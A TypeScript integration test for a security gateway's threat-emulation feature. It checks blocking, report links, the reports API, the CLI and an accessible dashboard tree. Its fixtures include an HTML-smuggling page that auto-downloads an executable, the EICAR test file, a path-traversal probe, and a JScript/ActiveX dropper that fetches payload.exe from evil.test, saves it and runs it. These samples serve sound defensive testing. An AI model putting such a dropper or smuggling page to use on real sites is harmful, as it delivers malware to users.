// Emulation in a running Weir: content is blocked through the proxy, and its report is linked from the page, told
// to programs and the log, served by the dashboard, printed by the command line and drawn in a browser.

import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import axe, { type AxeResults } from 'axe-core';
import { type Browser, chromium, type Page } from 'playwright-core';
import type { Report, ReportNode } from '../../../src/plugin/api.ts';
import { ApiClient } from '../../dashboard/api-client.ts';
import { eicar } from '../../support/eicar.ts';
import { type OriginServer, originServer } from '../../support/originServer.ts';
import { describeWithPeer } from '../../support/peers/describeWithPeer.ts';
import { requirePeer } from '../../support/peers/requirePeer.ts';
import { runCli } from '../../support/runCli.ts';
import { freePort } from '../../support/supervised.ts';
import { type LocalWeir, startTestWeir } from '../../support/weir.ts';

const page = (body: string): string => `<!doctype html><html><body>${body}</body></html>`;
const smuggler = (content: Buffer, name: string): string =>
  page(`<script>
  var a = document.createElement('a');
  a.href = URL.createObjectURL(new Blob([atob('${content.toString('base64')}')]));
  a.download = '${name}'; a.click();
</script>`);
const DROPPER = `var x = new ActiveXObject('MSXML2.XMLHTTP');
x.open('GET', 'http://evil.test/${'long-path/'.repeat(12)}payload.exe', false); x.send();
var s = new ActiveXObject('ADODB.Stream'); s.Open(); s.Type = 1; s.Write(x.responseBody);
s.SaveToFile('C:\\\\Users\\\\Public\\\\payload.exe', 2);
new ActiveXObject('WScript.Shell').Run('cmd /c start C:\\\\Users\\\\Public\\\\payload.exe');`;
const BODIES: Readonly<Record<string, readonly [type: string, body: string]>> = {
  '/clean': ['text/html', page('<script>document.title = "Hello";</script>')],
  '/smuggler': ['text/html', smuggler(Buffer.from('MZ\0\0\0\0 no program'), 'Invoice.exe')],
  '/dropper.js': ['application/javascript', DROPPER],
  '/notes': ['text/html', smuggler(eicar(), 'notes.txt')],
};

let origin: OriginServer;
let weir: LocalWeir;
let api: ApiClient;
/** Of /notes: the one with a file that anti-virus knows. */
let id: string;

beforeAll(async () => {
  origin = await originServer((request, response) => {
    const [type, body] = BODIES[request.url!] ?? ['text/plain', ''];
    response.setHeader('content-type', type);
    response.end(body);
  });
  const port = await freePort();
  weir = await startTestWeir((gatewayPort) => ({
    plugins: [
      './plugins/antivirus',
      {
        use: './plugins/threat-emulation',
        with: { reports: { folder: `.weir/test-reports-${gatewayPort}` } },
      },
    ],
    dashboard: { listen: `127.0.0.1:${port}` },
    // Anti-virus would find some of it in the page itself; here it is asked for the files that the page makes.
    profiles: {
      tested: {
        base: 'optimized',
        blades: { antivirus: { enabled: false }, 'threat-emulation': { mode: 'inline' } },
      },
    },
    gateway: { services: { sandblast: { profile: 'tested' } } },
  }));
  api = new ApiClient(weir);
});

afterAll(async () => {
  await weir?.[Symbol.asyncDispose]();
  await origin?.[Symbol.asyncDispose]();
});

const get = (path: string, accept: string) => weir.curl('-H', `Accept: ${accept}`, `${origin.url}${path}`);
const blocked = (half: string) =>
  weir.logged(({ kind, verdict, url }) => kind === half && verdict === 'blocked' && url.endsWith('/notes'));
const flatten = (node: ReportNode): ReportNode[] => [node, ...node.children.flatMap(flatten)];

test('a smuggling page is blocked through the proxy with its report linked from the page, and its clean neighbour is not', async () => {
  const clean = await get('/clean', '*/*');
  expect([clean.status, clean.body.toString()]).toEqual([200, BODIES['/clean']![1]]);
  const blocked = await get('/smuggler', 'text/html');
  const html = blocked.body.toString();
  expect(blocked.status).toBe(403);
  const named = /<a href="([^"]+)" rel="noreferrer"><code dir="ltr">(te-[0-9a-f]{12})<\/code><\/a>/.exec(
    html,
  )!;
  expect(named[1]).toBe(`${api.origin}/#/threats/${named[2]}`);
  expect(html).toMatch(/Behaviour\.html\./);
  expect(html).toContain('Invoice.exe');
});

test('the report is named to programs and in the log, and stays the same when the verdict is known from before', async () => {
  const first = await get('/notes', 'application/json');
  const { report } = JSON.parse(first.body.toString());
  id = report.id as string;
  expect(report.url).toBe(`${api.origin}/#/threats/${id}`);
  const again = await get('/notes', 'text/plain');
  expect(again.body.toString()).toMatch(
    /^Report: +te-[0-9a-f]{12} http:\/\/127\.0\.0\.1:\d+\/#\/threats\/te-/m,
  );
  const [told] = await blocked('gateway');
  expect(told!.threat).toMatchObject({ blade: 'threat-emulation', report: id });
  const [seen] = await blocked('proxy');
  expect(seen!.threat).toMatchObject({ report: id });
  expect(weir.weir.incidents.recent.map((incident) => incident.report)).toContain(id);
});

describe('GET /api/reports', () => {
  test('lists the latest, and has each as a tree with what became of the files that it made', async () => {
    const { json } = await api.ask('/api/reports?limit=1');
    expect(json.items).toHaveLength(1);
    const one = await api.ask(`/api/reports/${id}`);
    const report = one.json as Report;
    expect([one.status, report.verdict, report.threat]).toEqual([200, 'malicious', 'EICAR-Test-File']);
    const owner = flatten(report.tree).find(({ children }) =>
      children.some(({ kind }) => kind === 'antivirus'),
    )!;
    expect(owner.what).toContain('notes.txt');
    expect(owner.children.map(({ what }) => what).join()).toMatch(/^EICAR-Test-File \(.+68 bytes, SHA-256 /);
  });

  test('knows no others, refuses strange numbers, and asks for the token', async () => {
    expect((await api.ask('/api/reports/te-000000000000')).status).toBe(404);
    expect((await api.ask('/api/reports/..%2F..%2Fetc%2Fpasswd')).status).toBe(404);
    expect((await api.ask('/api/reports?limit=0')).status).toBe(400);
    const stranger = await fetch(`${api.origin}/api/reports/${id}`);
    expect(stranger.status).toBe(401);
  });
});

describe('weir report', () => {
  const report = (...args: string[]) =>
    runCli(['report', ...args, '--config', weir.folder.join('weir.yaml')], { cwd: process.cwd() });

  test('show prints the reasons and the tree, indented; --json the same for programs', async () => {
    const { stdout, exitCode } = await report('show', id);
    expect(exitCode).toBe(0);
    expect(stdout).toMatch(/^verdict +malicious: EICAR-Test-File$/m);
    expect(stdout).toMatch(/^ {2}content: /m);
    expect(stdout).toMatch(/^ {4,}\w+: .*notes\.txt.*\n {6,}antivirus: EICAR-Test-File \(/m);
    expect(JSON.parse((await report('show', id, '--json')).stdout)).toMatchObject({
      id,
      drops: [{ size: 68 }],
    });
  });

  test('list names them; an unknown id is told with the way on', async () => {
    expect((await report('list')).stdout).toContain(`${id}  `);
    const unknown = await report('show', 'te-000000000000');
    expect([unknown.exitCode, unknown.stderr]).toEqual([1, expect.stringContaining('weir report list')]);
  });
});

describeWithPeer(['chromium'], () => {
  let browser: Browser;
  let view: Page;
  let dropper: string;

  beforeAll(async () => {
    const { body } = await get('/dropper.js', 'application/json');
    dropper = JSON.parse(body.toString()).report.id as string;
    browser = await chromium.launch({
      executablePath: requirePeer('chromium'),
      args: ['--no-sandbox', '--disable-dev-shm-usage'],
    });
    view = await browser.newPage({ viewport: { width: 1280, height: 900 }, reducedMotion: 'reduce' });
    view.setDefaultTimeout(6000);
  });
  afterAll(() => browser?.close());

  const focused = (level: number) => view.locator(`[role=treeitem][aria-level="${level}"]:focus`).waitFor();
  const count = () => view.getByRole('treeitem').count();

  test('the dashboard draws the tree; keys open, close and move in it', async () => {
    await view.goto(`${api.origin}/?token=${api.token}`);
    await view.goto(`${api.origin}/#/threats/${dropper}`);
    await view.getByRole('heading', { name: `Report ${dropper}` }).waitFor();
    const tree = view.getByRole('tree');
    const all = await count();
    expect(await tree.innerText()).toContain('payload.exe');
    const root = view.getByRole('treeitem').first();
    await root.focus();
    await view.keyboard.press('ArrowDown');
    await focused(2);
    await view.keyboard.press('Home');
    await focused(1);
    await view.keyboard.press('ArrowLeft');
    await view.locator('[role=treeitem][aria-expanded=false]:focus').waitFor();
    expect(await count()).toBe(1);
    await view.keyboard.press('ArrowRight');
    await view.locator('[role=treeitem][aria-expanded=true]:focus').waitFor();
    expect(await count()).toBe(all);
    await view.keyboard.press('End');
    await view.locator('[role=treeitem]:last-child:focus').waitFor();
  });

  test.each([
    ['light', 1280],
    ['dark', 390],
  ] as const)('anybody can read it in %s colours at %i points', async (colorScheme, width) => {
    await view.emulateMedia({ colorScheme });
    await view.setViewportSize({ width, height: 844 });
    await view.evaluate(`if (!('axe' in globalThis)) { ${axe.source} }`);
    const { violations } = await view.evaluate<AxeResults>("axe.run({ resultTypes: ['violations'] })");
    expect(violations.map(({ id: rule, nodes }) => `${rule}: ${nodes[0]?.html}`)).toEqual([]);
    const isWider = await view.evaluate<boolean>('document.documentElement.scrollWidth > innerWidth');
    expect(isWider).toBe(false);
    const folder = process.env['REPORT_PICTURES'];
    if (folder !== undefined)
      await view.screenshot({ path: `${folder}/report-${width}.png`, fullPage: true });
  });
});
